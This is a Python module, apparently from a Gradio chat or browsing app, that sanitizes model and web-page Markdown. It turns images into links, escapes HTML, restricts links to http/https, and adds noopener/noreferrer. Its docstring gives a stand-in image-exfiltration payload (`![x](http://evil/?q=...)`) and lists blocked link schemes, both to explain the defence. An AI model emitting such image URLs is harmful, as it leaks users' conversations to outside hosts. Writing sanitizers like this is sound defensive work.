"""Text from the model or a page, made safe to show: nothing in it makes the browser load a
remote resource, and links open without handing over the page. The one place where
untrusted text becomes page Markdown (render.py and the UI call these two functions).

    answer (Markdown)            ─► safe_markdown ─┐
    title / url / notice / reason ─► plain_text ────┴─► render ─► gr.Markdown ─► browser

Decisions, in one place:
- Code spans and fenced code are left exactly as written: Markdown shows them as text, and
  their contents (HTML in a coding answer) must read correctly.
- No image survives, in any Markdown form: inline `![alt](url)` becomes a plain link
  labelled "image: alt"; reference images (`![alt][ref]`, `![alt][]`, `![alt]` with a
  definition) become the same link to the definition's URL; any other `![` left (an image
  written in a form this module does not parse, e.g. alt text across lines) gets its `[`
  written as the entity `&#91;`, so Markdown cannot read an image there at all. A rendered
  image is a request to
  a URL the model or a page author chose, which can carry the conversation to them
  (`![x](http://evil/?q=...)`); a click is the reader's choice, a render is not.
- Raw HTML is shown as text, not interpreted: every `<` that would open a tag, comment,
  declaration or autolink becomes `&lt;` (so `<img src=...>` reads as written). Entities
  (`&lt;img&gt;`) stay entities: the browser shows them as text, never parses them as tags.
- Links become our own anchors: target="_blank" rel="noopener noreferrer" (the opened page
  gets no handle on ours and no Referer). Only http and https targets stay links; any other
  scheme (javascript:, data:, file:, vbscript:, mailto:) keeps its text and loses the link.
- Reference definitions (`[ref]: url`) are resolved here and removed: a reference link
  becomes the same anchor an inline link would, and no definition is left for Markdown to
  turn into a link or image this module never saw.
- Short fields (titles, addresses, notices, page reasons) are not Markdown at all:
  `plain_text` escapes HTML, and writes the brackets every link and image needs, `!`, `|`,
  backslash and backtick as numeric entities. Entities, not backslashes: Gradio's Markdown
  was seen rendering `!\\[t\\](url)` inside a link's text as an image (test_browser_exfil).
- Gradio's Markdown sanitizes HTML too and adds rel="noopener noreferrer" to external links;
  this module does not count on it (a setting or an upgrade could change it).
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

SAFE_SCHEMES = ("http", "https")
LINK_REL = "noopener noreferrer"

# fenced blocks (``` or ~~~ to the matching fence or the end) and inline code spans
_CODE = re.compile(r"(?ms)^[ \t]*(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]*\1[ \t]*$|\Z)|(`+)[^`]*?\2")
_URL = r"((?:[^()\s<>]|\([^()\s]*\))*)"  # one level of balanced parentheses, as Markdown allows
_TITLE = r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?"
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?" + _URL + r">?" + _TITLE + r"\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?" + _URL + r">?" + _TITLE + r"\s*\)")
# [ref]: url "title" at the start of a line (up to three spaces in, as CommonMark allows)
_DEFINITION = re.compile(
    r"(?m)^ {0,3}\[([^\]\n]+)\]:[ \t]*\n?[ \t]*<?(\S*?)>?(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'"
    r"|\([^()\n]*\)))?[ \t]*$\n?"
)
# ![alt][ref], ![alt][] and ![alt]; [text][ref], [text][] and [text]
_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:\[([^\]\n]*)\])?")
_REF_LINK = re.compile(r"(?<![!\\])\[([^\]\n]+)\](?:\[([^\]\n]*)\])?(?![(:])")
_TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
# Markdown's syntax characters as numeric entities: the browser shows the character, and no
# Markdown reader takes an entity for syntax. (A backslash escape is not enough: Gradio's
# Markdown renders `[x !\[t\](url)](href)` with an image inside the link.)
_ENTITIES = str.maketrans({c: f"&#{ord(c)};" for c in "[]!|\\`"})
_CITATION = re.compile(r"\d+(?:\s*,\s*\d+)*")


def safe_markdown(text: str) -> str:
    """`text` with images turned into links, raw HTML shown as text, and every link an
    http(s) anchor with rel="noopener noreferrer" (see the module docstring)."""
    if not text:
        return ""
    parts: list[tuple[bool, str]] = []  # (is code, text)
    pos = 0
    for m in _CODE.finditer(text):
        parts.append((False, text[pos : m.start()]))
        parts.append((True, m.group(0)))
        pos = m.end()
    parts.append((False, text[pos:]))
    definitions: dict[str, str] = {}
    prose = [(code, part if code else _take_definitions(part, definitions)) for code, part in parts]
    return "".join(part if code else _prose(part, definitions) for code, part in prose)


def plain_text(text: str) -> str:
    """A short untrusted field (a title, an address, a notice) shown as text: no HTML, no
    link or image syntax, no table cell break (see _ENTITIES)."""
    return html.escape(text or "", quote=False).translate(_ENTITIES)


def safe_url(url: str) -> str | None:
    """The URL if it is one we let a reader follow (http, https), else None."""
    url = url.strip()
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    return url if parts.scheme.lower() in SAFE_SCHEMES and parts.netloc else None


def markdown_href(url: str) -> str:
    """`url` safe as a Markdown link destination: every character that could end it early
    (and let the rest of the address be read as Markdown, an image included) is escaped."""
    return re.sub(r"[\s()<>\[\]\\\"'`]", lambda m: f"%{ord(m.group(0)):02X}", url)


def link_title(text: str) -> str:
    """`text` safe inside a Markdown link title ("..."): one line, no quote or backslash
    that could close it, brackets and HTML escaped."""
    text = " ".join(text.split()).replace('"', "'")
    return html.escape(text, quote=False).translate(_ENTITIES)


def link_html(label: str, url: str) -> str:
    """One link as HTML that opens in a new tab without an opener or a referrer."""
    return f'<a href="{html.escape(url, quote=True)}" target="_blank" rel="{LINK_REL}">{label}</a>'


def _label(ref: str) -> str:
    return " ".join(ref.lower().split())  # CommonMark: case-insensitive, spaces collapsed


def _take_definitions(part: str, definitions: dict[str, str]) -> str:
    def take(m: re.Match[str]) -> str:
        definitions.setdefault(_label(m.group(1)), m.group(2))
        return ""

    return _DEFINITION.sub(take, part)


def _prose(part: str, definitions: dict[str, str]) -> str:
    # HTML first, so the anchors made below are the only tags left in the text
    part = _TAG_OPEN.sub("&lt;", part)
    part = _IMAGE.sub(lambda m: _as_link("image: " + (m.group(1) or "untitled"), m.group(2)), part)

    def ref_image(m: re.Match[str]) -> str:
        alt, ref = m.group(1), m.group(2)
        url = definitions.get(_label(ref or alt))
        if url is None:
            return "!&#91;" + m.group(0)[2:]  # no image syntax left for Markdown to read
        return _as_link("image: " + (alt or "untitled"), url)

    part = _REF_IMAGE.sub(ref_image, part)
    part = _LINK.sub(lambda m: _as_link(m.group(1), m.group(2)), part)

    def ref_link(m: re.Match[str]) -> str:
        text, ref = m.group(1), m.group(2)
        if _CITATION.fullmatch(text) and not ref:
            return m.group(0)  # [1] is a citation: render_citations links it to its source
        url = definitions.get(_label(ref or text))
        return m.group(0) if url is None else _as_link(text, url)

    if definitions:
        part = _REF_LINK.sub(ref_link, part)
    return part.replace("![", "!&#91;")


def _as_link(label: str, url: str) -> str:
    target = safe_url(url)
    label = label.strip() or (target or "link")
    return link_html(label, target) if target else label
